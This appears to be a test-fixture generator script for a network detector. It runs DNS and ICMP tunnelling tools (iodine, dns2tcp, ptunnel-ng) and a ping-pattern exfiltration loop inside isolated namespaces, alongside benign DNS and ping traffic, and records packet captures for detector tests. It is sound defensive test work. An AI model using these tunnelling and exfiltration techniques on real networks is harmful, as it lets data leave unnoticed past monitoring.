#!/bin/bash
# Debian packages needed: iproute2 tcpdump iodine dns2tcp ptunnel-ng iputils-ping
#                         dnsmasq-base bind9-dnsutils ethtool coreutils apt python3-scapy
#
# tunnels.sh - record REAL tunnel tools, and benign DNS and ping traffic, in
# two network namespaces this script creates, for periscope's dns_tunnel and
# icmp_tunnel detectors.
#
# usage: sudo tests/gen/tunnels.sh [OUTDIR]        (default: tests/pcaps/tunnels)
#        ONLY="iodine-null ptunnel" sudo -E tests/gen/tunnels.sh /tmp/x   (a subset)
#
# Needs root. Exits 77 (skipped) when not root, when `ip netns` does not work,
# or when a needed tool is missing.
#
# Topology (only namespaces; nothing is added to the root namespace):
#
#   ns CLI  c0 10.66.0.1/24 fd00:66::1/64 ──veth── s0 10.66.0.2/24 fd00:66::2/64  ns SRV
#
# Every capture is tcpdump on the server's s0 (what a mirror of the server's
# ENI would see), one file per session: OUTDIR/<name>.pcap. Sessions:
#
#   iodine-<type>-<enc>  iodined on SRV (UDP 53, zone t.tunnel-lab.net), the
#                        iodine client on CLI forced to DNS mode (-r) with a
#                        record type (-T) and downstream encoding (-O); once
#                        the tunnel is up, 6 pings of 300 bytes cross it
#   dns2tcp-<type>       dns2tcpd on SRV (zone d2t.tunnel-lab.org, a resource to
#                        a TCP sink), dns2tcpc on CLI with -T TXT or KEY; 3 KB
#                        sent through the tunnel
#   ptunnel[-magic]      ptunnel-ng proxy on SRV, client on CLI forwarding a
#                        local TCP port; 8 KB sent to a TCP sink through ICMP
#                        echo (the second with its own magic, -m)
#   icmp-exfil           1 KB of a file in ping's pattern option, 16 bytes a
#                        ping (ping -p HEX), each ping a new process
#   benign-dns           1,500+ queries for the Homepage hosts of the Debian
#                        package metadata (A, AAAA, MX, TXT), 200 PTR lookups
#                        (IPv4 and IPv6), long CDN names; dnsmasq answers
#                        everything with synthetic records
#   benign-ping          Linux ping: default, -s 1000, -p ff, IPv6
#   benign-ping-windows  echo requests with Windows' payload (abcdefghijklmnop
#                        qrstuvwabcdefghi) and zeros, crafted with scapy;
#                        the server's kernel answers
#
# Sessions are short (a few seconds, a few KB) to keep the files small.
# Determinism: none byte-for-byte (tools randomise ids, ports, data); the
# shape is the same each run.

DEB_PACKAGES="iproute2 tcpdump iodine dns2tcp ptunnel-ng iputils-ping dnsmasq-base bind9-dnsutils ethtool coreutils python3-scapy"

set -u
OUT=${1:-tests/pcaps/tunnels}
ONLY=${ONLY:-}
PY=/usr/bin/python3

skip() { echo "tunnels.sh: SKIP: $*" >&2; exit 77; }
die() { echo "tunnels.sh: ERROR: $*" >&2; exit 1; }

[ "$(id -u)" -eq 0 ] || skip "needs root"
PATH=$PATH:/usr/sbin:/sbin
command -v ip >/dev/null || skip "iproute2 (ip) not installed"
timeout 5 ip netns list >/dev/null 2>&1 || skip "'ip netns' is unavailable"
for t in tcpdump iodine iodined dns2tcpc dns2tcpd ptunnel-ng ping dnsmasq dig ethtool timeout apt-cache; do
    command -v "$t" >/dev/null 2>&1 || skip "$t not found; install: apt-get install $DEB_PACKAGES"
done
$PY -c 'import scapy' 2>/dev/null || skip "python3-scapy not installed"
[ -c /dev/net/tun ] || skip "/dev/net/tun missing (iodine needs a tun device)"
mkdir -p "$OUT" || die "cannot create $OUT"
OUT=$(cd "$OUT" && pwd)

SFX=$$
NS_C=pst-cli-$SFX NS_S=pst-srv-$SFX
TMP=$(mktemp -d /tmp/periscope-tunnels.XXXXXX) || die "mktemp failed"
chmod 755 "$TMP"
PIDS=()

cleanup() {
    local rc=$?
    trap - EXIT INT TERM
    local p
    for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null; done
    for p in "${PIDS[@]}"; do
        for _ in 1 2 3 4 5 6 7 8 9 10; do kill -0 "$p" 2>/dev/null || break; sleep 0.1; done
        kill -KILL "$p" 2>/dev/null
    done
    for ns in "$NS_C" "$NS_S"; do timeout 5 ip netns del "$ns" 2>/dev/null; done
    rm -rf "$TMP"
    exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

nsx() { local ns=$1; shift; timeout 10 ip netns exec "$ns" "$@"; }
step() { echo "== $*" >&2; }

# ---------------------------------------------------------------- topology
C4=10.66.0.1 S4=10.66.0.2 C6=fd00:66::1 S6=fd00:66::2
MAC_C=02:00:00:42:00:01 MAC_S=02:00:00:42:00:02
step "namespaces $NS_C (client) $NS_S (server)"
for ns in "$NS_C" "$NS_S"; do
    timeout 5 ip netns add "$ns" || die "ip netns add $ns"
    nsx "$ns" sh -c 'for c in all default; do
                       echo 0 > /proc/sys/net/ipv6/conf/$c/accept_dad
                       echo 0 > /proc/sys/net/ipv6/conf/$c/router_solicitations
                       echo 0 > /proc/sys/net/ipv6/conf/$c/accept_ra
                     done
                     echo 0 > /proc/sys/net/ipv4/igmp_link_local_mcast_reports
                     echo "0 2147483647" > /proc/sys/net/ipv4/ping_group_range' 2>/dev/null
    nsx "$ns" ip link set lo up
done
set -e
ip -n "$NS_C" link add c0 address $MAC_C type veth peer name s0 netns "$NS_S"
ip -n "$NS_S" link set s0 address $MAC_S
ip -n "$NS_C" addr add $C4/24 dev c0
ip -n "$NS_S" addr add $S4/24 dev s0
ip -n "$NS_C" addr add $C6/64 dev c0 nodad
ip -n "$NS_S" addr add $S6/64 dev s0 nodad
ip -n "$NS_C" link set c0 up
ip -n "$NS_S" link set s0 up
ip -n "$NS_C" neigh replace $S4 lladdr $MAC_S dev c0 nud permanent
ip -n "$NS_S" neigh replace $C4 lladdr $MAC_C dev s0 nud permanent
ip -n "$NS_C" -6 neigh replace $S6 lladdr $MAC_S dev c0 nud permanent
ip -n "$NS_S" -6 neigh replace $C6 lladdr $MAC_C dev s0 nud permanent
set +e
nsx "$NS_C" ethtool -K c0 tx off sg off tso off gso off gro off >/dev/null 2>&1
nsx "$NS_S" ethtool -K s0 tx off sg off tso off gso off gro off >/dev/null 2>&1
for _ in $(seq 50); do
    ip -n "$NS_C" link show c0 | grep -q 'qdisc noop\|state DOWN' || \
    ip -n "$NS_S" link show s0 | grep -q 'qdisc noop\|state DOWN' || break
    sleep 0.1
done
sleep 2      # let the MLD reports sent on link-up pass before the first capture

# ---------------------------------------------------------------- helpers
want() { [ -z "$ONLY" ] || case " $ONLY " in *" $1 "*) return 0 ;; *) return 1 ;; esac; }

TD=
start_cap() {   # start_cap NAME BPF
    local name=$1 bpf=$2
    : > "$TMP/td-$name.out"
    timeout 120 ip netns exec "$NS_S" tcpdump -i s0 -n -s 0 -U --immediate-mode -Z root \
        -w "$TMP/$name.pcap" "$bpf" >"$TMP/td-$name.out" 2>&1 &
    TD=$!; PIDS+=("$TD")
    for _ in $(seq 50); do grep -q 'listening on' "$TMP/td-$name.out" && break; sleep 0.1; done
    grep -q 'listening on' "$TMP/td-$name.out" || { cat "$TMP/td-$name.out" >&2; die "tcpdump ($name) did not start"; }
}
RESULTS=() FAILED=()
stop_cap() {    # stop_cap NAME
    local name=$1 n
    sleep 0.7
    kill -INT "$TD" 2>/dev/null
    for _ in $(seq 50); do kill -0 "$TD" 2>/dev/null || break; sleep 0.1; done
    kill -KILL "$TD" 2>/dev/null
    wait "$TD" 2>/dev/null
    local f=$TMP/$name.pcap
    n=$(tcpdump -r "$f" -n 2>/dev/null | wc -l)
    [ "$n" -gt 0 ] || { echo "   $name: 0 packets, not copied" >&2; FAILED+=("$name"); return; }
    cp "$f" "$OUT/$name.pcap" && chmod 644 "$OUT/$name.pcap"
    RESULTS+=("$(printf '%-28s %5d packets %7d bytes' "$name.pcap" "$n" "$(stat -c %s "$f")")")
    echo "   $name.pcap: $n packets, $(stat -c %s "$f") bytes" >&2
}
bg() {          # bg NS LOG CMD...: a daemon for this session
    local ns=$1 log=$2; shift 2
    ip netns exec "$ns" "$@" >"$log" 2>&1 &
    BGP=$!; PIDS+=("$BGP")
}
stop_bg() { kill -TERM "$@" 2>/dev/null; for p in "$@"; do wait "$p" 2>/dev/null; done; }
wait_port() {   # wait_port NS 'ss filter' (UDP or TCP listening)
    for _ in $(seq 50); do
        [ -n "$(ip netns exec "$1" ss -Hlnut "$2" 2>/dev/null)" ] && return 0
        sleep 0.1
    done
    return 1
}
# A TCP sink on SRV: reads everything, says how many bytes
sink() {        # sink PORT LOG
    bg "$NS_S" "$2" $PY -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1]))); s.listen(4); s.settimeout(60)
while True:
    c, _ = s.accept(); n = 0
    while True:
        b = c.recv(65536)
        if not b: break
        n += len(b)
    print("received", n, flush=True); c.close()' "$1"
    wait_port "$NS_S" "( sport = :$1 )"
}
# send N bytes to 127.0.0.1:PORT on CLI, wait for the peer to take them
send_tcp() {    # send_tcp PORT BYTES
    timeout 30 ip netns exec "$NS_C" $PY -c '
import socket, sys, time
for _ in range(50):
    try:
        s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=20); break
    except OSError: time.sleep(0.2)
data = bytes((i * 7 + i // 251) & 255 for i in range(int(sys.argv[2])))
s.sendall(data); time.sleep(4); s.close(); print("sent", len(data))' "$1" "$2"
}
head -c 4096 /dev/urandom > "$TMP/secret.bin"

# ---------------------------------------------------------------- iodine
iodine_session() {  # iodine_session NAME TYPE [ENC]
    local name=$1 type=$2 enc=${3:-}
    want "$name" || return 0
    step "$name: iodine -r -T $type ${enc:+-O $enc}"
    bg "$NS_S" "$TMP/$name-iodined.log" timeout 60 iodined -f -c -P periscope -l $S4 -p 53 \
        10.99.0.1/27 t.tunnel-lab.net
    local srv=$BGP
    wait_port "$NS_S" "( sport = :53 )" || { cat "$TMP/$name-iodined.log" >&2; die "iodined did not start"; }
    start_cap "$name" "host $C4"
    bg "$NS_C" "$TMP/$name-iodine.log" timeout 60 iodine -f -r -P periscope -T "$type" \
        ${enc:+-O "$enc"} $S4 t.tunnel-lab.net
    local cli=$BGP
    local up=0
    for _ in $(seq 150); do
        grep -q 'Connection setup complete' "$TMP/$name-iodine.log" && { up=1; break; }
        kill -0 $cli 2>/dev/null || break
        sleep 0.1
    done
    if [ $up = 1 ]; then
        nsx "$NS_C" ping -n -q -c 6 -i 0.3 -s 300 -W 2 10.99.0.1 | tail -1 >&2
    else
        echo "   iodine did not connect:" >&2; tail -5 "$TMP/$name-iodine.log" >&2
        FAILED+=("$name")
    fi
    stop_bg $cli
    stop_cap "$name"
    stop_bg $srv
}
iodine_session iodine-null         NULL
iodine_session iodine-private      PRIVATE
iodine_session iodine-txt-base32   TXT  base32
iodine_session iodine-txt-base64   TXT  base64
iodine_session iodine-txt-base128  TXT  base128
iodine_session iodine-txt-raw      TXT  raw
iodine_session iodine-cname-base32 CNAME base32
iodine_session iodine-mx-base64    MX   base64
iodine_session iodine-srv-base64u  SRV  base64u
iodine_session iodine-a-base128    A    base128

# ---------------------------------------------------------------- dns2tcp
dns2tcp_session() {  # dns2tcp_session NAME TYPE
    local name=$1 type=$2
    want "$name" || return 0
    step "$name: dns2tcpc -T $type"
    mkdir -p "$TMP/chroot"
    cat > "$TMP/dns2tcpd.conf" <<EOF
listen = $S4
port = 53
user = nobody
chroot = $TMP/chroot
domain = d2t.tunnel-lab.org
key = periscope
resources = sink:$S4:7000
EOF
    sink 7000 "$TMP/$name-sink.log" || die "sink did not start"
    local snk=$BGP
    bg "$NS_S" "$TMP/$name-dns2tcpd.log" timeout 60 dns2tcpd -F -f "$TMP/dns2tcpd.conf"
    local srv=$BGP
    wait_port "$NS_S" "( sport = :53 )" || { cat "$TMP/$name-dns2tcpd.log" >&2; die "dns2tcpd did not start"; }
    start_cap "$name" "host $C4"
    bg "$NS_C" "$TMP/$name-dns2tcpc.log" timeout 60 dns2tcpc -z d2t.tunnel-lab.org -k periscope \
        -r sink -l 2222 -T "$type" $S4
    local cli=$BGP
    wait_port "$NS_C" "( sport = :2222 )" || { cat "$TMP/$name-dns2tcpc.log" >&2; die "dns2tcpc did not start"; }
    send_tcp 2222 3000 >&2 || FAILED+=("$name")
    stop_bg $cli
    stop_cap "$name"
    stop_bg $srv $snk
    cat "$TMP/$name-sink.log" >&2
}
dns2tcp_session dns2tcp-txt TXT
dns2tcp_session dns2tcp-key KEY

# ---------------------------------------------------------------- ptunnel-ng
ptunnel_session() {  # ptunnel_session NAME [MAGIC]
    local name=$1 magic=${2:-}
    want "$name" || return 0
    step "$name: ptunnel-ng ${magic:+-m $magic}"
    sink 7001 "$TMP/$name-sink.log" || die "sink did not start"
    local snk=$BGP
    bg "$NS_S" "$TMP/$name-proxy.log" timeout 60 ptunnel-ng -r$S4 -R7001 ${magic:+-m "$magic"} -v 1
    local srv=$BGP
    sleep 0.5
    start_cap "$name" "host $C4 and (icmp or icmp6)"
    bg "$NS_C" "$TMP/$name-client.log" timeout 60 ptunnel-ng -p$S4 -l2223 -r$S4 -R7001 \
        ${magic:+-m "$magic"} -v 1
    local cli=$BGP
    wait_port "$NS_C" "( sport = :2223 )" || { cat "$TMP/$name-client.log" >&2; die "ptunnel-ng client did not start"; }
    send_tcp 2223 8000 >&2 || FAILED+=("$name")
    stop_bg $cli
    stop_cap "$name"
    stop_bg $srv $snk
    cat "$TMP/$name-sink.log" >&2
}
ptunnel_session ptunnel
ptunnel_session ptunnel-magic 0x50455249

# ---------------------------------------------------------------- ping -p exfiltration
if want icmp-exfil; then
    step "icmp-exfil: 1 KB in ping -p, 16 bytes a ping"
    start_cap icmp-exfil "host $C4 and icmp"
    for hex in $(head -c 1024 "$TMP/secret.bin" | od -An -v -tx1 | tr -d ' \n' | fold -w 32); do
        nsx "$NS_C" ping -n -q -c 1 -W 1 -s 56 -p "$hex" $S4 >/dev/null
    done
    stop_cap icmp-exfil
fi

# ---------------------------------------------------------------- benign DNS
if want benign-dns; then
    step "benign-dns: Homepage hosts of the Debian package metadata, PTR, CDN names"
    bg "$NS_S" "$TMP/dnsmasq.log" timeout 120 dnsmasq --no-daemon --conf-file=/dev/null --no-resolv \
        --no-hosts --bind-interfaces --listen-address=$S4 --port=53 --pid-file \
        --address=/#/192.0.2.1 --address=/#/2001:db8::1 \
        --cname=www.debian.org,static.debian.org --txt-record=debian.org,"v=spf1 mx -all" \
        --mx-host=debian.org,mail.debian.org,10 --ptr-record=1.2.0.192.in-addr.arpa,host.example.net \
        --cache-size=0
    dns=$BGP
    wait_port "$NS_S" "( sport = :53 )" || die "dnsmasq did not start"
    # 1,500 hosts, every fourth of the sorted list (a fixed sample)
    apt-cache dumpavail | sed -n 's#^Homepage: *[a-zA-Z]*://\([^/:]*\).*#\1#p' | tr 'A-Z' 'a-z' \
        | grep -E '^[a-z0-9.-]+\.[a-z]+$' | sort -u | awk 'NR % 4 == 0' | head -1500 > "$TMP/hosts"
    [ "$(wc -l < "$TMP/hosts")" -ge 1500 ] || die "fewer than 1500 Homepage hosts"
    {
        awk '{print $1, "A"} NR % 3 == 0 {print $1, "AAAA"}' "$TMP/hosts"
        # mail and SPF/DMARC lookups for the registered-looking domains
        awk -F. 'NR % 10 == 0 {d = $(NF-1) "." $NF; print d, "MX"; print "_dmarc." d, "TXT"}' "$TMP/hosts"
        # long but legitimate CDN names
        for i in $(seq 1 25); do
            printf 'rr%d---sn-%s.googlevideo.com A\n' $((i % 5 + 1)) \
                "$(printf '%s' "periscope$i" | md5sum | tr -dc 'a-z0-9' | head -c 8)"
        done
        for i in $(seq 1 35); do printf 'e%d.dscb.akamaiedge.net A\n' $((1000 + i * 37)); done
        for i in $(seq 1 20); do
            printf 'd%s.cloudfront.net A\n' "$(printf 'cf%d' $i | md5sum | tr -dc 'a-z0-9' | head -c 13)"
        done
        cat <<'EOF'
scontent-ams4-1.xx.fbcdn.net A
static.xx.fbcdn.net A
s3.dualstack.eu-west-1.amazonaws.com A
periscope-test-bucket-0123456789.s3.eu-west-1.amazonaws.com A
a1089.dscd.akamai.net A
prod-fastly-us-east-1.video.pscdn.co A
dualstack.k.shared.global.fastly.net AAAA
www-google-analytics.l.google.com A
clients.l.google.com A
e673.dsce9.akamaiedge.net AAAA
lb-140-82-121-4-ams.github.com A
github-cloud.s3.amazonaws.com A
objects.githubusercontent.com A
d2fb8wn5y3o2e0.cloudfront.net A
cdn-185-199-108-153.github.com A
1e100.net A
EOF
    } > "$TMP/queries"
    # reverse lookups: 150 IPv4 and 50 IPv6 addresses
    for i in $(seq 1 150); do echo "-x 192.0.2.$((i % 254 + 1))"; done >> "$TMP/queries"
    for i in $(seq 1 50); do printf -- '-x 2001:db8:%x::%x\n' $i $((i * 17)); done >> "$TMP/queries"
    echo "   $(wc -l < "$TMP/queries") queries" >&2
    start_cap benign-dns "host $C4 and port 53"
    timeout 300 ip netns exec "$NS_C" dig +tries=1 +time=2 +noall +answer @$S4 -f "$TMP/queries" \
        > "$TMP/dig.out" 2>&1
    stop_cap benign-dns
    stop_bg $dns
    echo "   $(wc -l < "$TMP/dig.out") answer lines" >&2
fi

# ---------------------------------------------------------------- benign pings
if want benign-ping; then
    step "benign-ping: Linux ping default, -s 1000, -p ff, IPv6"
    start_cap benign-ping "host $C4 or host $C6"
    nsx "$NS_C" ping -n -q -c 10 -i 0.2 -W 1 $S4 | tail -1 >&2
    nsx "$NS_C" ping -n -q -c 5 -i 0.2 -W 1 -s 1000 $S4 | tail -1 >&2
    nsx "$NS_C" ping -n -q -c 5 -i 0.2 -W 1 -p ff $S4 | tail -1 >&2
    nsx "$NS_C" ping -n -q -c 5 -i 0.2 -W 1 -p 0102030405060708090a0b0c0d0e0f10 $S4 | tail -1 >&2
    nsx "$NS_C" ping -6 -n -q -c 10 -i 0.2 -W 1 $S6 | tail -1 >&2
    stop_cap benign-ping
fi
if want benign-ping-windows; then
    step "benign-ping-windows: Windows' payload and zeros, crafted with scapy"
    start_cap benign-ping-windows "host $C4 or host $C6"
    timeout 60 ip netns exec "$NS_C" $PY - "$S4" "$S6" <<'EOF' >&2
import sys, time, logging
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import IP, IPv6, ICMP, ICMPv6EchoRequest, send, conf
conf.verb = 0
v4, v6 = sys.argv[1], sys.argv[2]
win = b"abcdefghijklmnopqrstuvwabcdefghi"
for seq in range(1, 11):            # Windows ping: id 1, seq counting, 32-byte payload
    send(IP(dst=v4, ttl=128) / ICMP(id=1, seq=seq) / win); time.sleep(0.1)
for seq in range(1, 6):             # Windows ping -l 100: the alphabet repeated
    send(IP(dst=v4, ttl=128) / ICMP(id=1, seq=100 + seq) / (win * 4)[:100]); time.sleep(0.1)
for seq in range(1, 6):             # Windows over IPv6
    send(IPv6(dst=v6, hlim=128) / ICMPv6EchoRequest(id=1, seq=seq, data=win)); time.sleep(0.1)
for seq in range(1, 11):            # busybox / nmap style: zeros
    send(IP(dst=v4) / ICMP(id=0x4242, seq=seq) / bytes(56)); time.sleep(0.1)
print("sent 30 echo requests")
EOF
    stop_cap benign-ping-windows
fi

step "done"
printf '%s\n' "${RESULTS[@]}" >&2
[ ${#FAILED[@]} -eq 0 ] || die "failed: ${FAILED[*]}"
exit 0
